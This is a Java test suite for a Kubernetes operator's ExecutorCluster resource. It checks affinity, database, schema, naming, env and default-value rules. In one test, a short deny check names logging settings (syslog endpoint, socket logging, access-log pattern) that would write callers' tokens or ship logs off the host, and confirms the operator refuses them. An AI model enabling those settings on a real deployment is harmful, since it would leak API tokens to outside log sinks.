            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: type, operator: In}]}]}}}} | spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchExpressions[0].values: Invalid value: "object": operators In and NotIn need values, Gt and Lt exactly one, Exists and DoesNotExist none
            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: cores, operator: Gt, values: ["4", "8"]}]}]}}}} | spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchExpressions[0].values: Invalid value: "object": operators In and NotIn need values, Gt and Lt exactly one
            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: "bad key", operator: Exists}]}]}}}} | spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchExpressions[0].key: Invalid value: "bad key"
            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: type, operator: In, values: ["not kwok"]}]}]}}}} | spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchExpressions[0].values[0]: Invalid value: "not kwok"
            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchFields: [{key: metadata.labels, operator: In, values: [n1]}]}]}}}} | spec.placement.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchFields[0].key: Unsupported value: "metadata.labels": supported values: "metadata.name"
            placement: {affinity: {nodeAffinity: {preferredDuringSchedulingIgnoredDuringExecution: [{weight: 0, preference: {}}]}}} | spec.placement.affinity.nodeAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].weight: Invalid value: 0
            placement: {affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{labelSelector: {matchLabels: {app: drover}}}]}}} | spec.placement.affinity.podAntiAffinity.requiredDuringSchedulingIgnoredDuringExecution[0].topologyKey: Required value
            placement: {affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{topologyKey: kubernetes.io/hostname, labelSelector: {matchExpressions: [{key: app, operator: Gt, values: ["1"]}]}}]}}} | spec.placement.affinity.podAntiAffinity.requiredDuringSchedulingIgnoredDuringExecution[0].labelSelector.matchExpressions[0].operator: Unsupported value: "Gt"
            placement: {affinity: {podAffinity: {preferredDuringSchedulingIgnoredDuringExecution: [{weight: 101, podAffinityTerm: {topologyKey: kubernetes.io/hostname}}]}}} | spec.placement.affinity.podAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].weight: Invalid value: 101
            placement: {affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{topologyKey: kubernetes.io/hostname, matchLabelKeys: [controller-revision-hash]}]}}} | spec.placement.affinity.podAntiAffinity.requiredDuringSchedulingIgnoredDuringExecution[0].labelSelector: Invalid value: "object": matchLabelKeys and mismatchLabelKeys need a labelSelector
            placement: {affinity: {podAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{topologyKey: zone, namespaces: [Team_A]}]}}} | spec.placement.affinity.podAffinity.requiredDuringSchedulingIgnoredDuringExecution[0].namespaces[0]: Invalid value: "Team_A"
            """)
    void invalidSpecIsRefusedNamingTheField(String spec, String expected) {
        String yaml = Clusters.yaml("invalid", spec.replace("\\n", "\n"));
        assertThatThrownBy(() -> Clusters.create(client, namespace, yaml))
                .isInstanceOf(KubernetesClientException.class)
                .satisfies(e -> assertThat(((KubernetesClientException) e).getCode()).isEqualTo(422))
                .hasMessageContaining(expected);
    }

    /** The Flowable engine takes the settings it maps (docs/engines.md) and Drover is the default engine. */
    @Test
    void flowableTakesTheSettingsItMaps() {
        ExecutorCluster ec = Clusters.create(client, namespace, Clusters.yaml("flowable", """
                engine: Flowable
                lockMode: Global
                threads: 16
                queueSize: 512
                acquirePageSize: 256
                globalLockWaitTime: 30s
                globalLockPollInterval: 100ms
                globalLockMaxHold: 1m
                lockExpiry: 5m
                maxAttempts: 5
                retryBackoff: 10s
                shutdownGracePeriod: 1m
                acquireInterval: 2s
                """));
        assertThat(ec.getSpec().engine).isEqualTo(Engine.Flowable);
        assertThat(Clusters.create(client, namespace, Clusters.yaml("default-engine", "")).getSpec().engine).isEqualTo(Engine.Drover);
        ec.getSpec().engine = Engine.Drover;
        ec.getSpec().lockMode = io.drover.operator.api.v1alpha1.LockMode.SkipLocked;
        assertThatThrownBy(() -> client.resource(ec).update()).as("the engine of an existing cluster")
                .hasMessageContaining("spec.engine: Invalid value: \"string\": engine cannot change on an existing ExecutorCluster");
    }

    /** The jobs waiting in one schema's tables would be left behind, as with the engine. */
    @Test
    void theSchemaOfAnExistingClusterCannotChange() {
        var ec = Clusters.create(client, namespace, Clusters.yaml("fixed-schema", "schema: payments\n"));
        ec.getSpec().schema = "billing";
        assertThatThrownBy(() -> client.resource(ec).update()).as("a schema changed")
                .hasMessageContaining("spec.schema: Invalid value: \"object\": schema cannot change on an existing ExecutorCluster");
        ec.getSpec().schema = null; // left out: the default schema, another one
        assertThatThrownBy(() -> client.resource(ec).update()).as("a schema left out")
                .hasMessageContaining("schema cannot change");
        var unset = Clusters.create(client, namespace, Clusters.yaml("default-schema", ""));
        unset.getSpec().schema = io.drover.contract.SettingDefaults.SCHEMA; // written out, the same schema
        client.resource(unset).update();
        client.resource(client.resource(unset).get()).edit(c -> { // other edits pass
            c.getSpec().threads = 12;
            return c;
        });
    }

    @Test
    void databaseFieldsAreRequiredAndChecked() {
        String noDatabase = """
                apiVersion: drover.io/v1alpha1
                kind: ExecutorCluster
                metadata:
                  name: nodb
                spec:
                  threads: 4
                """;
        assertThatThrownBy(() -> Clusters.create(client, namespace, noDatabase)).hasMessageContaining("spec.database: Required value");

        String badDatabase = """
                apiVersion: drover.io/v1alpha1
                kind: ExecutorCluster
                metadata:
                  name: baddb
                spec:
                  database:
                    host: db
                    name: jobs
                    port: 70000
                    sslMode: sometimes
                """;
        assertThatThrownBy(() -> Clusters.create(client, namespace, badDatabase))
                .hasMessageContaining("spec.database.port: Invalid value: 70000")
                .hasMessageContaining("spec.database.sslMode: Invalid value: \"sometimes\"")
                .hasMessageContaining("spec.database.credentialsSecret: Required value");
    }

    @Test
    void aClusterWithoutSpecIsRefusedNamingSpec() {
        String noSpec = """
                apiVersion: drover.io/v1alpha1
                kind: ExecutorCluster
                metadata:
                  name: nospec
                """;
        assertThatThrownBy(() -> Clusters.create(client, namespace, noSpec))
                .hasMessageContaining("spec: Required value: spec is required: at least spec.database");
        // Nor may an update take it away (the rule lets through only a cluster stored without
        // one, from before the rule, so that its status can still be written).
        Clusters.create(client, namespace, Clusters.yaml("losesspec", ""));
        var clusters = client.genericKubernetesResources("drover.io/v1alpha1", "ExecutorCluster").inNamespace(namespace);
        var stored = clusters.withName("losesspec").get();
        stored.getAdditionalProperties().remove("spec");
        assertThatThrownBy(() -> clusters.resource(stored).update())
                .hasMessageContaining("spec: Required value: spec is required: at least spec.database");
    }

    /** The name becomes the StatefulSet's, its pods' and Services': refused when they could not carry it. */
    @ParameterizedTest
    @CsvSource({"a-name-that-is-fifty-three-characters-long-0123456789", "dotted.name", "9starts-with-a-digit"})
    void aNameThatCannotNameTheExecutorsIsRefused(String name) {
        assertThatThrownBy(() -> Clusters.create(client, namespace, Clusters.yaml(name, "")))
                .hasMessageContaining("metadata.name must be at most 52 characters");
        String longest = "a-name-that-is-fifty-two-characters-long-0123456789x".substring(0, 52);
        assertThat(Clusters.create(client, namespace, Clusters.yaml(longest, "")).getMetadata().getName()).hasSize(52);
        client.resources(ExecutorCluster.class).inNamespace(namespace).withName(longest).delete();
    }

    /** The documented example is accepted as written (docs/examples/executorcluster.yaml). */
    @Test
    void theDocumentedExampleIsValid() throws Exception {
        String yaml = java.nio.file.Files.readString(java.nio.file.Path.of("../docs/examples/executorcluster.yaml"));
        ExecutorCluster ec = Clusters.create(client, namespace, yaml);
        assertThat(ec.getSpec().database.caBundle.configMap).isEqualTo("rds-ca");
        assertThat(ec.getSpec().networkPolicy.from).hasSize(1);
    }

    @Test
    void defaultsAreApplied() {
        ExecutorCluster ec = Clusters.create(client, namespace, Clusters.yaml("defaults", ""));
        var spec = ec.getSpec();
        assertThat(spec.replicas).isEqualTo(ExecutorClusterSpec.DEFAULT_REPLICAS);
        assertThat(spec.lockMode).isEqualTo(LockMode.valueOf(SettingDefaults.LOCK_MODE));
        assertThat(spec.threads).isEqualTo(Integer.parseInt(SettingDefaults.THREADS));
        assertThat(spec.queueSize).isEqualTo(Integer.parseInt(SettingDefaults.QUEUE_SIZE));
        assertThat(spec.acquirePageSize).isEqualTo(Integer.parseInt(SettingDefaults.ACQUIRE_PAGE_SIZE));
        assertThat(spec.terminationGracePeriodSeconds).as("derived by the operator (GracePeriods)").isNull();
        assertThat(spec.database.port).isEqualTo(DatabaseSpec.DEFAULT_PORT).isEqualTo(5432);
        assertThat(spec.database.sslMode).as("never plaintext unless asked for").isEqualTo(DatabaseSpec.DEFAULT_SSL_MODE).isEqualTo("require");
        assertThat(spec.database.caBundle).isNull();
        assertThat(spec.networkPolicy.enabled).isTrue();
        assertThat(spec.database.credentialsSecret.usernameKey).isEqualTo("username");
        assertThat(spec.database.credentialsSecret.passwordKey).isEqualTo("password");
        assertThat(spec.placement.instanceTypes).contains("c5.2xlarge", "c5.large").allMatch(t -> t.startsWith("c5."));
        assertThat(spec.placement.spreadAcrossNodes).isTrue();
        assertThat(spec.autoscaling.enabled).isFalse();
        assertThat(spec.autoscaling.minReplicas).isEqualTo(1);
        assertThat(spec.autoscaling.maxReplicas).isEqualTo(4);
        assertThat(spec.autoscaling.targetBacklogPerNode).as("a default queue fits in it (queueSize <= targetBacklogPerNode)").isEqualTo(1024);
        assertThat(spec.autoscaling.pollingInterval).isEqualTo("15s");
        assertThat(spec.autoscaling.scaleDownStabilizationWindow).isEqualTo("5m");
        assertThat(spec.disruptionBudget.enabled).isTrue();
        assertThat(spec.disruptionBudget.maxUnavailable).isEqualTo(1);
        // Durations the spec leaves out stay unset: the executor's own defaults apply.
        assertThat(spec.lockExpiry).isNull();
    }

    /** The edges of the rules above, on the side that must pass. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "|", textBlock = """
            database: {host: "fd00::5", name: jobs, credentialsSecret: {name: s}}
            database: {host: "::1", name: jobs, credentialsSecret: {name: s}}
            database: {host: 10.0.0.5, name: jobs, credentialsSecret: {name: s}}
            database: {host: orders.cluster-c1x2.eu-west-1.rds.amazonaws.com, name: jobs, credentialsSecret: {name: jobs-db.v2, passwordKey: db_Password.1}}
            lockExpiry: 24h\\nglobalLockMaxHold: 24h
            maxJobDuration: 2h\\njobTimeouts: {report: 2h, http: 30s}
            autoscaling: {scaleDownStabilizationWindow: 1h, pollingInterval: 1h, cooldownPeriod: 24h}
            apiTokenSecret: {name: api-token, key: token}
            env: [{name: DROVER_HTTP_URL, valueFrom: {secretKeyRef: {name: hooks, key: url}}}, {name: X}, {name: Y, value: ""}]
            retryBackoff: 10m
            engine: Flowable\\nlockMode: Global\\nretryBackoff: 15m
            resources: {requests: {cpu: 500m, memory: 4Gi, ephemeral-storage: 1G}, limits: {cpu: 2, memory: 4Gi}}
            networkPolicy: {from: [{ipBlock: {cidr: 10.0.0.0/16, except: [10.0.1.0/24]}}, {namespaceSelector: {matchExpressions: [{key: team, operator: Exists}]}, podSelector: {matchLabels: {app.kubernetes.io/name: prometheus}}}]}
            networkPolicy: {egress: [{to: [{ipBlock: {cidr: "2001:db8::/32"}}], ports: [{port: 443, endPort: 8443, protocol: TCP}, {port: https}, {port: dns-tcp, protocol: UDP}]}, {ports: [{port: 53}]}]}
            resources: {requests: {cpu: "1.5", memory: "1e9"}, limits: {memory: "1e9", hugepages-2Mi: 0}}
            resources: {requests: {cpu: 7}, limits: {example.com/gpu: 1}}
            resources: {requests: {example.com/gpu: "1e3"}, limits: {example.com/gpu: 1k}}
            resources: {requests: {memory: 1Gi, hugepages-2Mi: 1024Mi, example.com/gpu: "1"}, limits: {memory: 2Gi, hugepages-2Mi: 1Gi, example.com/gpu: 1}}
            image: registry.example.com/drover/drover-executor:0.1.0
            shutdownGracePeriod: 30.9s\\nterminationGracePeriodSeconds: 41
            jobTimeout: 1m\\nterminationGracePeriodSeconds: 80
            jobTimeout: 1m\\njobTimeouts: {http: 10s, report: 5m}\\nterminationGracePeriodSeconds: 320
            jobTimeout: 1h\\nshutdownGracePeriod: 30s\\nterminationGracePeriodSeconds: 40
            engine: Flowable\\nlockMode: Global\\nterminationGracePeriodSeconds: 40
            maxJobDuration: 10m\\nterminationGracePeriodSeconds: 620
            lockExpiry: 23h59m59.999999999s\\njobTimeout: 1.00000000001h\\nacquireInterval: 1.5ms\\nstartupTimeout: 1.0000000001m
            startupTimeout: 2562047h\\nacquireInterval: 24h\\nglobalLockWaitTime: 24h\\nglobalLockPollInterval: 24h\\nretryBackoff: 2562047h\\nretryBackoffMax: 2562047h
            maxJobDuration: 2562046h59m50s\\nshutdownGracePeriod: 2562047h\\njobTimeout: 2562046h59m50s\\njobTimeouts: {report: 2562046h}
            resources: {claims: [], requests: {cpu: 1, nvidia.com/gpu: 1, hugepages-2Mi: 4Mi, hugepages-1Gi: 2Gi}, limits: {memory: 1Gi, ephemeral-storage: 1Gi, nvidia.com/gpu: 1, hugepages-2Mi: 4Mi, hugepages-1Gi: 2Gi}}
            placement: {nodeSelector: {node.kubernetes.io/instance-type: c5.2xlarge, zone: ""}, tolerations: [{key: dedicated, operator: Equal, value: drover, effect: NoSchedule}, {key: node.kubernetes.io/unreachable, operator: Exists, effect: NoExecute, tolerationSeconds: 60}, {key: example.com/spot}, {operator: Exists}]}
            placement: {affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: type, operator: NotIn, values: [kwok]}, {key: example.com/cores, operator: Gt, values: ["4"]}]}, {matchFields: [{key: metadata.name, operator: In, values: [node-1.example.com]}]}]}, preferredDuringSchedulingIgnoredDuringExecution: [{weight: 100, preference: {matchExpressions: [{key: node.kubernetes.io/instance-type, operator: In, values: [c5.2xlarge]}]}}]}, podAntiAffinity: {preferredDuringSchedulingIgnoredDuringExecution: [{weight: 1, podAffinityTerm: {topologyKey: kubernetes.io/hostname, labelSelector: {matchLabels: {app.kubernetes.io/name: drover-executor}}, matchLabelKeys: [controller-revision-hash], namespaces: [jobs]}}]}}}
            """)
    void edgeValuesAreAccepted(String spec) {
        String name = "edge-" + Integer.toHexString(spec.hashCode() & 0xfffffff);
        assertThat(Clusters.create(client, namespace, Clusters.yaml(name, spec.replace("\\n", "\n")))).isNotNull();
    }

    @Test
    void validSettingsAreAccepted() {
        ExecutorCluster ec = Clusters.create(client, namespace, Clusters.yaml("tuned", """
                lockMode: Global
                threads: 128
                queueSize: 512
                acquirePageSize: 512
                lockExpiry: 1m30s
                globalLockWaitTime: 500ms
                shutdownGracePeriod: 45s
                terminationGracePeriodSeconds: 90
                jobTimeout: 30m
                jobTimeouts: {report: 2h, http: 30s}
                maxCrashes: 2
                startupTimeout: 10m
                autoscaling: {enabled: true, minReplicas: 0, maxReplicas: 8}
                jvmOptions: -Xmx3g -Duser.timezone=Europe/Paris -Xss512k -Xlog:gc*:file=/tmp/gc.log -XX:+UseZGC
                env: [{name: DROVER_HTTP_URL, value: "http://orders.internal/hook"}, {name: DROVER_HTTP_ALLOWEDHOSTS, value: "*.internal"},
                      {name: DROVER_API_MAXBATCH, value: "500"}, {name: DROVER_API_MAXBODYBYTESINFLIGHT, value: 64M},
                      {name: QUARKUS_DATASOURCE_JDBC_ADDITIONAL_JDBC_PROPERTIES_SOCKETTIMEOUT, value: "900"}]
                """));
        // The API's settings other than its tokens are the writer's (docs/configuration.md): they were refused with the tokens.
        assertThat(ec.getSpec().env).extracting(e -> e.name).containsExactly("DROVER_HTTP_URL", "DROVER_HTTP_ALLOWEDHOSTS",
                "DROVER_API_MAXBATCH", "DROVER_API_MAXBODYBYTESINFLIGHT", "QUARKUS_DATASOURCE_JDBC_ADDITIONAL_JDBC_PROPERTIES_SOCKETTIMEOUT");
        assertThat(ec.getSpec().jobTimeouts).containsEntry("report", "2h").containsEntry("http", "30s");
        assertThat(ec.getSpec().lockMode).isEqualTo(LockMode.Global);
        assertThat(ec.getSpec().acquirePageSize).isEqualTo(512);
        assertThat(ec.getSpec().autoscaling.minReplicas).isZero();
    }

    /**
     * Every variable the operator writes for a cluster with every field set (the ConfigMap and
     * the container's env) is refused as an extra env entry: ExtraEnvVar's list keeps up with
     * what the operator sets.
     */
    @Test
    void everyVariableTheOperatorSetsIsRefusedInEnv() {
        ExecutorCluster full = Clusters.parse(Clusters.yaml("full", """
                lockMode: Global
                threads: 4
                virtualThreads: true
                queueSize: 10
                acquirePageSize: 5
                acquireInterval: 1s
                globalLockWaitTime: 1s
                globalLockPollInterval: 10ms
                globalLockMaxHold: 5s
                lockExpiry: 10s
                maxAttempts: 2
                retryBackoff: 1s
                retryBackoffMax: 2s
                completionBatchSize: 10
                shutdownGracePeriod: 20s
                jobTimeout: 10s
                jobTimeouts: {a: 1s}
                maxCrashes: 2
                startupTimeout: 1m
                schema: jobs
                jvmOptions: -Xmx1g
                database: {host: db, name: jobs, maxPoolSize: 5, credentialsSecret: {name: jobs-db}}
                """));
        full.getMetadata().setNamespace(namespace);
        java.util.Set<String> written = new java.util.TreeSet<>(ExecutorEnvironment.environment(full.getSpec()).keySet());
        ExecutorStatefulSet.build(full, "image", "IfNotPresent", "hash", 1).getSpec().getTemplate().getSpec()
                .getContainers().get(0).getEnv().forEach(e -> written.add(e.getName()));
        ExecutorCluster flowable = Clusters.parse(Clusters.yaml("flowable-full", """
                engine: Flowable
                lockMode: Global
                threads: 4
                database: {host: db, name: jobs, credentialsSecret: {name: jobs-db}}
                """));
        flowable.getMetadata().setNamespace(namespace);
        written.addAll(ExecutorEnvironment.environment(flowable.getSpec()).keySet());
        ExecutorStatefulSet.build(flowable, "image", "IfNotPresent", "hash", 1).getSpec().getTemplate().getSpec()
                .getContainers().get(0).getEnv().forEach(e -> written.add(e.getName()));
        assertThat(written).contains("DROVER_THREADS", "QUARKUS_DATASOURCE_PASSWORD", "DROVER_API_READTOKEN", "JAVA_TOOL_OPTIONS",
                "POD_NAMESPACE", "QUARKUS_DATASOURCE_JDBC_MAX_SIZE");
        int i = 0;
        for (String name : written) {
            String yaml = Clusters.yaml("owned-" + i++, "env: [{name: " + name + ", value: x}]");
            assertThat(io.drover.operator.api.v1alpha1.ExtraEnvVar.refused(name)).as("the operator's own check: " + name).isTrue();
            assertThatThrownBy(() -> Clusters.create(client, namespace, yaml)).as(name)
                    .hasMessageContaining("spec.env[0].name: Invalid value: \"object\": this variable is set by the operator");
        }
        // The log settings that would write callers' tokens or ship logs away, in the operator's own check too.
        for (String name : java.util.List.of("QUARKUS_HTTP_ACCESS_LOG_PATTERN", "quarkus.log.syslog.endpoint", "QUARKUS_LOG_SOCKET_ENABLED",
                "QUARKUS_LOG_HANDLER_SYSLOG__X__ENDPOINT")) {
            assertThat(io.drover.operator.api.v1alpha1.ExtraEnvVar.refusedLogging(name)).as(name).isTrue();
        }
        assertThat(io.drover.operator.api.v1alpha1.ExtraEnvVar.refusedLogging("QUARKUS_LOG_CONSOLE_JSON_ENABLED"))
                .as("JSON console logs, as docs/metrics.md suggests").isFalse();
    }

    @Test
    void scaleSubresourceWorksWithKubectlScale() {
        Clusters.create(client, namespace, Clusters.yaml("scalable", ""));
        client.resources(ExecutorCluster.class).inNamespace(namespace).withName("scalable").scale(5);
        assertThat(client.resources(ExecutorCluster.class).inNamespace(namespace).withName("scalable").get().getSpec().replicas)
                .isEqualTo(5);
    }
}
